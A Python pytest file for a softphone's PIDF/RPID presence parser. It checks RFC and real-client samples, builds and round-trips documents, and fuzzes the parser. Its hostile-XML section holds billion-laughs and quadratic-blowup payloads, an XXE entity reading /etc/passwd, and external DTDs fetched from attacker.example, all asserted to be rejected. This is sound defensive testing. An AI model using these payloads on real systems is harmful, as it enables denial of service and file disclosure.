"""PIDF presence documents (RFC 3863) with RPID (RFC 4480), and the hardened XML front end."""

from __future__ import annotations

import tracemalloc
from collections.abc import Callable
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from softphone.sip.errors import BodyError, SipParseError
from softphone.sip.pidf import (
    RPID_ACTIVITIES,
    RPID_MOODS,
    Activity,
    Contact,
    Mood,
    Note,
    Person,
    Presence,
    PresenceTuple,
    build_pidf,
    build_presence,
    merge_presence,
    parse_pidf,
)
from softphone.sip.xmlbody import parse_xml
from tests.sip.strategies import mutated

# RFC 3863 3.4.
RFC3863_EXAMPLE = """<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
    xmlns:im="urn:ietf:params:xml:ns:pidf:im"
    xmlns:myex="http://id.example.com/presence/"
    entity="pres:someone@example.com">
  <tuple id="bs35r9">
    <status>
      <basic>open</basic>
      <im:im>busy</im:im>
      <myex:location>home</myex:location>
    </status>
    <contact priority="0.8">im:someone@mobilecarrier.net</contact>
    <note xml:lang="en">Don't Disturb Please!</note>
    <note xml:lang="fr">Ne dérangez pas, s'il vous plait</note>
    <timestamp>2001-10-27T16:49:29Z</timestamp>
  </tuple>
  <tuple id="eg92n8">
    <status>
      <basic>open</basic>
    </status>
    <contact priority="1.0">mailto:someone@example.com</contact>
  </tuple>
  <note>I'll be in Tokyo next week</note>
</presence>
""".encode()

# The RFC 4480 example document (tuples, a device and a person with activities and mood).
RFC4480_EXAMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf"
     xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
     xmlns:lt="urn:ietf:params:xml:ns:location-type"
     xmlns:rp="urn:ietf:params:xml:ns:pidf:rpid"
     entity="pres:someone@example.com">
  <tuple id="bs35r9">
    <status>
      <basic>open</basic>
    </status>
    <dm:deviceID>urn:device:0003ba4811e3</dm:deviceID>
    <rp:relationship><rp:self/></rp:relationship>
    <rp:service-class><rp:electronic/></rp:service-class>
    <contact priority="0.8">im:someone@mobilecarrier.net</contact>
    <note xml:lang="en">Don't Disturb Please!</note>
    <note xml:lang="fr">Ne derangez pas, s'il vous plait</note>
    <timestamp>2005-10-27T16:49:29Z</timestamp>
  </tuple>
  <tuple id="ty4658">
    <status>
      <basic>open</basic>
    </status>
    <rp:relationship><rp:assistant/></rp:relationship>
    <contact priority="1.0">mailto:secretary@example.com</contact>
  </tuple>
  <tuple id="eg92n8">
    <status>
      <basic>open</basic>
    </status>
    <dm:deviceID>urn:x-mac:0003ba4811e3</dm:deviceID>
    <rp:class>email</rp:class>
    <rp:service-class><rp:electronic/></rp:service-class>
    <rp:status-icon>http://example.com/mail.png</rp:status-icon>
    <contact priority="1.0">mailto:someone@example.com</contact>
  </tuple>
  <note xml:lang="en">I'll be in Tokyo next week</note>
  <dm:device id="pc147">
    <rp:user-input idle-threshold="600"
      last-input="2004-10-21T13:20:00.000-05:00">idle</rp:user-input>
    <dm:deviceID>urn:device:0003ba4811e3</dm:deviceID>
    <dm:note xml:lang="en">PC</dm:note>
  </dm:device>
  <dm:person id="p1">
    <rp:activities from="2005-05-30T12:00:00+05:00"
                   until="2005-05-30T17:00:00+05:00">
      <rp:note>Far away</rp:note>
      <rp:away/>
    </rp:activities>
    <rp:class>calendar</rp:class>
    <rp:mood>
      <rp:angry/>
      <rp:other>brooding</rp:other>
    </rp:mood>
    <rp:place-is>
      <rp:audio>
        <rp:noisy/>
      </rp:audio>
    </rp:place-is>
    <rp:place-type><lt:residence/></rp:place-type>
    <rp:privacy><rp:unknown/></rp:privacy>
    <rp:sphere>bowling league</rp:sphere>
    <rp:status-icon>http://example.com/play.gif</rp:status-icon>
    <rp:time-offset>-240</rp:time-offset>
    <dm:note>Scoring 120</dm:note>
    <dm:timestamp>2005-05-30T16:09:44+05:00</dm:timestamp>
  </dm:person>
</presence>
"""

# Kamailio presence_xml aggregates the tuples and persons of every publication
# for one presentity; copied nodes carry their own namespace declarations.
KAMAILIO_AGGREGATE = b"""<?xml version="1.0"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:bob@example.org">
  <tuple xmlns="urn:ietf:params:xml:ns:pidf" id="t1a2b">
    <status><basic>closed</basic></status>
    <contact priority="0.5">sip:bob@192.0.2.7:5060</contact>
    <note>Offline</note>
  </tuple>
  <tuple id="a5c0">
    <status><basic>open</basic></status>
    <contact priority="0.8">sip:bob@198.51.100.3:5062;transport=tcp</contact>
    <timestamp>2026-03-01T08:00:00.123Z</timestamp>
  </tuple>
  <dm:person xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
             xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid" id="p8812">
    <rpid:activities><rpid:on-the-phone/></rpid:activities>
    <dm:note>On a call</dm:note>
  </dm:person>
</presence>
"""

# Linphone: a person with an RPID activity, a pidfonline extension, notes with xml:lang.
LINPHONE = b"""<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"
 xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid" xmlns:pidfonline="http://www.linphone.org/xsds/pidfonline.xsd"
 entity="sip:marie@sip.example.org">
  <tuple id="yyk3q4">
    <status><basic>open</basic><pidfonline:online/></status>
    <contact>sip:marie@sip.example.org</contact>
    <timestamp>2026-02-11T09:15:02Z</timestamp>
  </tuple>
  <dm:person id="oaszsy">
    <rpid:activities><rpid:away/></rpid:activities>
    <dm:note xml:lang="en">Back in five</dm:note>
  </dm:person>
</presence>
"""

# Blink: many namespaces, a service-capabilities extension, a busy activity.
BLINK = b"""<?xml version='1.0' encoding='UTF-8'?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:agp-pidf="urn:ag-projects:xml:ns:pidf"
 xmlns:caps="urn:ietf:params:xml:ns:pidf:caps" xmlns:cipid="urn:ietf:params:xml:ns:pidf:cipid"
 xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"
 entity="sip:carol@example.net">
  <tuple id="SID-4fa2">
    <status><basic>open</basic><agp-pidf:extended>busy</agp-pidf:extended></status>
    <caps:servcaps><caps:audio>true</caps:audio><caps:message>true</caps:message></caps:servcaps>
    <contact>sip:carol@203.0.113.9:50316;transport=tls</contact>
    <timestamp>2026-02-11T09:15:02.512+01:00</timestamp>
  </tuple>
  <dm:person id="PID-9c1e">
    <rpid:activities><rpid:busy/></rpid:activities>
    <cipid:display-name>Carol</cipid:display-name>
    <dm:timestamp>2026-02-11T09:15:02.512+01:00</dm:timestamp>
  </dm:person>
  <dm:device id="DID-77">
    <dm:deviceID>urn:uuid:9c1e</dm:deviceID>
    <dm:note>Blink Pro</dm:note>
  </dm:device>
</presence>
"""

# Jitsi: default namespaces redeclared on the person and activities.
JITSI = b"""<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:dave@example.com">
<person xmlns="urn:ietf:params:xml:ns:pidf:data-model" id="p1234">
<activities xmlns="urn:ietf:params:xml:ns:pidf:rpid"><on-the-phone/></activities>
</person>
<tuple id="t5678"><status><basic>open</basic></status>
<contact>sip:dave@example.com</contact><note>On the phone</note></tuple>
</presence>
"""

# baresip: a bare person, closed status.
BARESIP = b"""<?xml version="1.0" encoding="UTF-8"?>\r
<presence xmlns="urn:ietf:params:xml:ns:pidf"\r
    xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model"\r
    xmlns:rpid="urn:ietf:params:xml:ns:pidf:rpid"\r
    entity="sip:erin@example.com">\r
  <dm:person id="p4159"><rpid:activities/></dm:person>\r
  <tuple id="t4109">\r
    <status><basic>closed</basic></status>\r
    <contact>sip:erin@example.com</contact>\r
  </tuple>\r
</presence>\r
"""

# An older client that put the activity inside the tuple's status.
LEGACY_STATUS_ACTIVITY = b"""<?xml version="1.0" encoding="UTF-8"?>
<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:es="urn:ietf:params:xml:ns:pidf:status:rpid-status"
 entity="sip:frank@example.com">
  <tuple id="sg89ae">
    <status><basic>open</basic><es:activities><es:activity>Lunch</es:activity></es:activities></status>
    <contact priority="0.8">sip:frank@example.com</contact>
  </tuple>
</presence>
"""

VALID_DOCUMENTS = [
    RFC3863_EXAMPLE,
    RFC4480_EXAMPLE,
    KAMAILIO_AGGREGATE,
    LINPHONE,
    BLINK,
    JITSI,
    BARESIP,
    LEGACY_STATUS_ACTIVITY,
]


# --- RFC examples ---------------------------------------------------------------


def test_rfc3863_example() -> None:
    presence = parse_pidf(RFC3863_EXAMPLE)
    assert presence.entity == "pres:someone@example.com"
    assert [t.id for t in presence.tuples] == ["bs35r9", "eg92n8"]
    first = presence.tuples[0]
    assert first.basic == "open"
    assert first.contact == Contact("im:someone@mobilecarrier.net", 0.8)
    assert first.notes == [Note("Don't Disturb Please!", "en"), Note("Ne dérangez pas, s'il vous plait", "fr")]
    assert first.timestamp == datetime(2001, 10, 27, 16, 49, 29, tzinfo=UTC)
    assert presence.tuples[1].contact == Contact("mailto:someone@example.com", 1.0)
    assert presence.tuples[1].notes == []
    assert presence.notes == [Note("I'll be in Tokyo next week")]
    assert presence.persons == []
    assert presence.basic == "open"
    assert presence.activity is None
    assert presence.note == "Don't Disturb Please!"


def test_rfc4480_example() -> None:
    presence = parse_pidf(RFC4480_EXAMPLE)
    assert [t.id for t in presence.tuples] == ["bs35r9", "ty4658", "eg92n8"]
    assert all(t.basic == "open" for t in presence.tuples)
    assert presence.tuples[1].contact == Contact("mailto:secretary@example.com", 1.0)
    [person] = presence.persons
    assert person.id == "p1"
    assert person.activities == [Activity("away")]
    assert person.mood == [Mood("angry"), Mood("other", "brooding")]
    # The person's own note first, then the note on its activities.
    assert person.notes == [Note("Scoring 120"), Note("Far away")]
    assert person.timestamp == datetime(2005, 5, 30, 16, 9, 44, tzinfo=timezone(timedelta(hours=5)))
    assert presence.activity == "away"
    assert presence.mood == "angry"
    assert presence.note == "Scoring 120"
    assert presence.notes == [Note("I'll be in Tokyo next week", "en")]


# --- What servers and clients send ---------------------------------------------


def test_kamailio_aggregate() -> None:
    presence = parse_pidf(KAMAILIO_AGGREGATE)
    assert presence.entity == "sip:bob@example.org"
    assert [(t.id, t.basic) for t in presence.tuples] == [("t1a2b", "closed"), ("a5c0", "open")]
    assert presence.tuples[1].timestamp == datetime(2026, 3, 1, 8, 0, 0, 123000, tzinfo=UTC)
    assert presence.basic == "open"
    assert presence.activity == "on-the-phone"
    assert presence.note == "On a call"


def test_linphone() -> None:
    presence = parse_pidf(LINPHONE)
    assert presence.basic == "open"
    assert presence.activity == "away"
    assert presence.persons[0].notes == [Note("Back in five", "en")]
    assert presence.note == "Back in five"
    assert presence.tuples[0].contact == Contact("sip:marie@sip.example.org")


def test_blink() -> None:
    presence = parse_pidf(BLINK)
    assert presence.basic == "open"
    assert presence.activity == "busy"
    assert presence.note is None
    assert presence.persons[0].timestamp == datetime(2026, 2, 11, 8, 15, 2, 512000, tzinfo=UTC)


def test_jitsi_default_namespaces() -> None:
    presence = parse_pidf(JITSI)
    assert presence.activity == "on-the-phone"
    assert presence.note == "On the phone"


def test_baresip_closed_without_activity() -> None:
    presence = parse_pidf(BARESIP)
    assert presence.basic == "closed"
    assert presence.activity is None
    assert presence.persons == [Person(id="p4159")]


def test_activity_in_tuple_status() -> None:
    presence = parse_pidf(LEGACY_STATUS_ACTIVITY)
    assert presence.tuples[0].activities == [Activity("lunch")]
    assert presence.activity == "lunch"


def test_any_prefix_and_unknown_elements() -> None:
    doc = b"""<p:presence xmlns:p="urn:ietf:params:xml:ns:pidf" xmlns:x="urn:ietf:params:xml:ns:pidf:rpid"
        xmlns:d="urn:ietf:params:xml:ns:pidf:data-model" xmlns:z="urn:example:zzz" entity=" sip:g@example.com ">
      <z:whatever><p:tuple id="nope"/></z:whatever>
      <p:tuple id="a"><p:status><p:basic> OPEN </p:basic></p:status><z:new-thing a="1"/></p:tuple>
      <d:person><x:activities><x:other> Gaming </x:other></x:activities><z:ext/></d:person>
    </p:presence>"""
    presence = parse_pidf(doc)
    assert presence.entity == "sip:g@example.com"
    assert [t.id for t in presence.tuples] == ["a"]
    assert presence.basic == "open"
    assert presence.activity == "Gaming"
    assert presence.persons[0].id is None


def test_summary_prefers_person_note_then_open_tuples() -> None:
    presence = Presence(
        "sip:h@example.com",
        tuples=[
            PresenceTuple("c", "closed", notes=[Note("closed note")]),
            PresenceTuple("o", "open", notes=[Note(""), Note("open note")]),
        ],
        notes=[Note("document note")],
    )
    assert presence.note == "open note"
    presence.persons.append(Person(notes=[Note(""), Note("person note")]))
    assert presence.note == "person note"
    assert Presence("sip:h@example.com", notes=[Note("document note")]).note == "document note"


def test_summary_skips_unknown_activity() -> None:
    presence = Presence("sip:i@example.com", persons=[Person(activities=[Activity("unknown"), Activity("meal")])])
    assert presence.activity == "meal"
    assert Presence("sip:i@example.com", persons=[Person(activities=[Activity("unknown")])]).activity is None
    assert Activity("other").display == "other"


def test_no_tuples_is_closed() -> None:
    presence = parse_pidf(b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:j@example.com"/>')
    assert presence.basic == "closed"
    assert presence.tuples == [] and presence.note is None


def test_liberal_values() -> None:
    doc = b"""<presence xmlns="urn:ietf:params:xml:ns:pidf">
      <tuple><status><basic>maybe</basic></status><contact priority="7">sip:k@example.com</contact>
      <contact>sip:second@example.com</contact><timestamp>yesterday</timestamp></tuple>
      <tuple id="x"><contact priority="high">  </contact></tuple></presence>"""
    presence = parse_pidf(doc)
    assert presence.entity == ""
    first, second = presence.tuples
    assert first.id == "" and first.basic is None and first.timestamp is None
    assert first.contact == Contact("sip:k@example.com", None)
    assert second.contact is None
    assert presence.basic == "closed"


def test_latin1_document_and_charset_override() -> None:
    latin1 = (
        '<?xml version="1.0" encoding="ISO-8859-1"?>'
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:l@example.com">'
        "<note>Café</note></presence>"
    ).encode("latin-1")
    assert parse_pidf(latin1).note == "Café"
    undeclared = '<presence entity="sip:l@example.com"><note>Café</note></presence>'.encode("latin-1")
    with pytest.raises(BodyError):
        parse_pidf(undeclared)
    assert parse_pidf(undeclared, "iso-8859-1").note == "Café"
    with pytest.raises(BodyError):
        parse_pidf(undeclared, "no-such-charset")


def test_charset_through_python_codecs() -> None:
    doc = '<?xml version="1.0" encoding="Shift_JIS"?><presence entity="sip:m@example.jp"><note>会議中</note></presence>'
    assert parse_pidf(doc.encode("shift_jis"), "Shift_JIS").note == "会議中"
    utf16 = doc.replace("Shift_JIS", "UTF-16").encode("utf-16")
    assert parse_pidf(utf16).note == "会議中"
    assert parse_pidf(utf16, "utf-16").note == "会議中"
    with_bom = "\ufeff" + doc.replace("Shift_JIS", "UTF-8")
    assert parse_pidf(with_bom.encode(), "utf-8").note == "会議中"
    with pytest.raises(BodyError, match="cannot be decoded"):
        parse_pidf(doc.encode("shift_jis"), "utf-8")
    with pytest.raises(BodyError):
        parse_pidf(doc.encode("utf-8"), "rot13")


# --- Building -------------------------------------------------------------------


def test_build_pidf_shape() -> None:
    body = build_pidf(
        "sip:alice@example.com",
        "open",
        activity="on-the-phone",
        note="In a meeting & busy <until 3>",
        tuple_id="t9",
        contact="sip:alice@192.0.2.1:5060",
        timestamp=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
        priority=0.8,
    )
    text = body.decode()
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n<presence xmlns="urn:ietf:params:xml:ns:pidf"')
    assert 'entity="sip:alice@example.com"' in text
    assert '<tuple id="t9"><status><basic>open</basic></status>' in text
    assert '<contact priority="0.8">sip:alice@192.0.2.1:5060</contact>' in text
    assert "<timestamp>2026-01-02T03:04:05Z</timestamp>" in text
    assert "<rpid:activities><rpid:on-the-phone/></rpid:activities>" in text
    assert "<dm:note>In a meeting &amp; busy &lt;until 3&gt;</dm:note>" in text
    presence = parse_pidf(body)
    assert presence.basic == "open"
    assert presence.activity == "on-the-phone"
    assert presence.note == "In a meeting & busy <until 3>"
    assert presence.tuples[0].contact == Contact("sip:alice@192.0.2.1:5060", 0.8)
    assert presence.tuples[0].timestamp == datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)


def test_build_pidf_minimal_has_no_person() -> None:
    body = build_pidf("sip:bob@example.com", "closed")
    assert b"person" not in body
    presence = parse_pidf(body)
    assert presence.basic == "closed" and presence.activity is None and presence.note is None


def test_build_unknown_activity_as_other() -> None:
    presence = parse_pidf(build_pidf("sip:bob@example.com", "open", activity="Gaming", mood="happy"))
    assert presence.persons[0].activities == [Activity("other", "Gaming")]
    assert presence.activity == "Gaming"
    assert presence.mood == "happy"


def test_build_drops_characters_xml_cannot_carry() -> None:
    presence = parse_pidf(build_pidf("sip:bob@example.com", "open", note="a\x00b\x1bc\ufffe\r\nd"))
    assert presence.note == "abc\r\nd"


def test_build_naive_timestamp_is_utc() -> None:
    body = build_pidf("sip:bob@example.com", "open", timestamp=datetime(2026, 5, 6, 7, 8, 9))
    assert b"<timestamp>2026-05-06T07:08:09Z</timestamp>" in body


@pytest.mark.parametrize(
    "kwargs",
    [
        {"entity": "", "basic": "open"},
        {"entity": "sip:a@b", "basic": "away"},
        {"entity": "sip:a@b", "basic": "open", "tuple_id": "1abc"},
        {"entity": "sip:a@b", "basic": "open", "tuple_id": "a b"},
        {"entity": "sip:a@b", "basic": "open", "contact": "sip:a@c", "priority": 1.5},
    ],
)
def test_build_pidf_rejects(kwargs: dict[str, object]) -> None:
    with pytest.raises(ValueError):
        build_pidf(**kwargs)  # type: ignore[arg-type]


def test_merge_presence() -> None:
    phone = parse_pidf(build_pidf("sip:bob@example.com", "closed", tuple_id="phone", person_id="p1"))
    laptop = parse_pidf(
        build_pidf("sip:bob@example.com", "open", activity="busy", note="Coding", tuple_id="laptop", person_id="p2")
    )
    newer_phone = parse_pidf(build_pidf("sip:bob@example.com", "open", activity="away", tuple_id="phone"))
    merged = merge_presence([phone, laptop, newer_phone])
    assert merged.entity == "sip:bob@example.com"
    assert [(t.id, t.basic) for t in merged.tuples] == [("laptop", "open"), ("phone", "open")]
    assert [p.id for p in merged.persons] == ["p2", "p1"]
    assert merged.activity == "busy"
    again = parse_pidf(build_presence(merged))
    assert again == merged


def test_rfc_examples_survive_build_and_parse() -> None:
    for document in VALID_DOCUMENTS:
        presence = parse_pidf(document)
        if all(t.id for t in presence.tuples) and presence.entity:
            assert parse_pidf(build_presence(presence)) == presence


# --- Round trips and fuzzing ------------------------------------------------------

_xml_text = st.text(
    st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")) | st.sampled_from("\t\n&<>\"'"),
    max_size=30,
).map(str.strip)
_nonempty = _xml_text.filter(bool)
_ids = st.from_regex(r"[A-Za-z_][A-Za-z0-9._\-]{0,12}", fullmatch=True)
_langs = st.none() | st.sampled_from(["en", "fr", "de-CH"])
_timestamps = st.none() | st.datetimes(
    min_value=datetime(1970, 1, 1),
    max_value=datetime(2100, 1, 1),
    timezones=st.sampled_from([UTC, timezone(timedelta(hours=-5, minutes=-30))]),
)
_notes = st.lists(st.builds(Note, _xml_text, _langs), max_size=3)


def _rpid(cls: type[Activity] | type[Mood], known: frozenset[str]) -> st.SearchStrategy[Activity | Mood]:
    return st.one_of(
        st.sampled_from(sorted(known - {"other"})).map(cls),
        st.builds(cls, st.just("other"), st.none() | _nonempty),
    )


_presence = st.builds(
    Presence,
    entity=_nonempty,
    tuples=st.lists(
        st.builds(
            PresenceTuple,
            id=_ids,
            basic=st.sampled_from(["open", "closed", None]),
            contact=st.none() | st.builds(Contact, _nonempty, st.none() | st.integers(0, 1000).map(lambda n: n / 1000)),
            notes=_notes,
            timestamp=_timestamps,
            activities=st.lists(_rpid(Activity, RPID_ACTIVITIES), max_size=2),
        ),
        max_size=3,
    ),
    persons=st.lists(
        st.builds(
            Person,
            id=st.none() | _ids,
            activities=st.lists(_rpid(Activity, RPID_ACTIVITIES), max_size=3),
            mood=st.lists(_rpid(Mood, RPID_MOODS), max_size=2),
            notes=_notes,
            timestamp=_timestamps,
        ),
        max_size=2,
    ),
    notes=_notes,
)


@settings(deadline=None, max_examples=200, suppress_health_check=[HealthCheck.too_slow])
@given(_presence)
def test_round_trip_presence(presence: Presence) -> None:
    assert parse_pidf(build_presence(presence)) == presence


@settings(deadline=None, max_examples=200)
@given(
    basic=st.sampled_from(["open", "closed"]),
    activity=st.none() | st.sampled_from(sorted(RPID_ACTIVITIES - {"other", "unknown"})) | _nonempty,
    note=st.none() | _xml_text,
    contact=st.none() | _nonempty,
    timestamp=_timestamps,
)
def test_round_trip_build_pidf(
    basic: str, activity: str | None, note: str | None, contact: str | None, timestamp: datetime | None
) -> None:
    presence = parse_pidf(
        build_pidf("sip:me@example.com", basic, activity, note, "t1", contact, timestamp)  # type: ignore[arg-type]
    )
    assert presence.entity == "sip:me@example.com"
    assert presence.basic == basic
    assert presence.activity == (activity or None)
    assert presence.note == (note or None)
    assert presence.tuples[0].contact == (None if contact is None else Contact(contact))
    assert presence.tuples[0].timestamp == timestamp


def _parses_or_body_error(data: bytes) -> None:
    try:
        result = parse_pidf(data)
    except BodyError as exc:
        assert str(exc)
    else:
        assert isinstance(result, Presence)
        _ = (result.basic, result.activity, result.note, result.mood)


@settings(deadline=None, max_examples=300)
@given(st.binary(max_size=400))
def test_fuzz_random_bytes(data: bytes) -> None:
    _parses_or_body_error(data)


@settings(deadline=None, max_examples=500, suppress_health_check=[HealthCheck.too_slow])
@given(mutated(st.sampled_from([d.decode("utf-8") for d in VALID_DOCUMENTS]), st.characters(codec="utf-8")))
def test_fuzz_mutated_documents(text: str) -> None:
    _parses_or_body_error(text.encode("utf-8"))


@settings(deadline=None, max_examples=200)
@given(st.sampled_from(VALID_DOCUMENTS), st.data())
def test_fuzz_truncated_documents(document: bytes, data: st.DataObject) -> None:
    cut = data.draw(st.integers(0, len(document)))
    _parses_or_body_error(document[:cut])


# --- Hostile XML --------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"><note>&lol9;</note></presence>
"""

QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE presence [<!ENTITY a "'
    + b"x" * 30_000
    + b'">]><presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"><note>'
    + b"&a;" * 8_000
    + b"</note></presence>"
)

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"><note>&xxe;</note></presence>
"""

EXTERNAL_PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"/>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE presence SYSTEM "http://attacker.example/presence.dtd">
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"/>
"""

PLAIN_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE presence [<!ELEMENT presence ANY>]>
<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"/>
"""


def _deep(levels: int) -> bytes:
    return (
        b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b">'
        + b"<a>" * levels
        + b"</a>" * levels
        + b"</presence>"
    )


DEEP_NESTING = _deep(100_000)
HUGE_BODY = (
    b'<presence xmlns="urn:ietf:params:xml:ns:pidf" entity="sip:a@b"><note>' + b"x" * 10_000_000 + b"</note></presence>"
)


def _assert_rejected_lean(parse: Callable[[bytes], object], data: bytes, limit: int = 20_000_000) -> BodyError:
    tracemalloc.start()
    try:
        with pytest.raises(BodyError) as info:
            parse(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < limit, f"peak {peak} bytes"
    assert isinstance(info.value, SipParseError) and isinstance(info.value, ValueError)
    assert info.value.__cause__ is None
    return info.value


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_ENTITY, EXTERNAL_PARAMETER_ENTITY, EXTERNAL_DTD, PLAIN_DTD],
    ids=["billion-laughs", "quadratic-blowup", "external-entity", "external-parameter-entity", "external-dtd", "dtd"],
)
def test_hostile_xml_rejected(document: bytes) -> None:
    error = _assert_rejected_lean(lambda d: parse_pidf(d, max_size=1_000_000), document)
    assert "document type declaration" in str(error)
    _assert_rejected_lean(parse_pidf, document)


def test_deep_nesting_rejected_by_size() -> None:
    error = _assert_rejected_lean(parse_pidf, DEEP_NESTING)
    assert "limit" in str(error)


def test_deep_nesting_rejected_by_depth() -> None:
    error = _assert_rejected_lean(lambda d: parse_pidf(d, max_size=len(DEEP_NESTING)), DEEP_NESTING)
    assert "deeper" in str(error)


def test_ten_megabytes_rejected() -> None:
    _assert_rejected_lean(parse_pidf, HUGE_BODY)


def test_element_count_limit() -> None:
    wide = b"<presence>" + b"<a/>" * 20 + b"</presence>"
    assert parse_xml(wide, max_elements=21).tag == "presence"
    with pytest.raises(BodyError, match="more than 20 elements"):
        parse_xml(wide, max_elements=20)
    many = b'<presence entity="sip:a@b">' + b"<a/>" * 50_000 + b"</presence>"
    _assert_rejected_lean(lambda d: parse_pidf(d, max_size=len(many)), many)


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"   \r\n",
        b"<presence",
        b"<presence entity='x'></tuple>",
        b"<dialog-info/>",
        b"\xff\xfe\x00garbage",
        b"<presence entity='\xff'/>",
        b"<presence>&#0;</presence>",
        b"<presence>&undefined;</presence>",
        b'<presence xmlns:a="urn:x"><b:tuple/></presence>',
        b"<presence/><presence/>",
        b"plain text",
    ],
)
def test_malformed_rejected(document: bytes) -> None:
    with pytest.raises(BodyError):
        parse_pidf(document)


def test_not_bytes_rejected() -> None:
    with pytest.raises(BodyError):
        parse_pidf("<presence/>")  # type: ignore[arg-type]
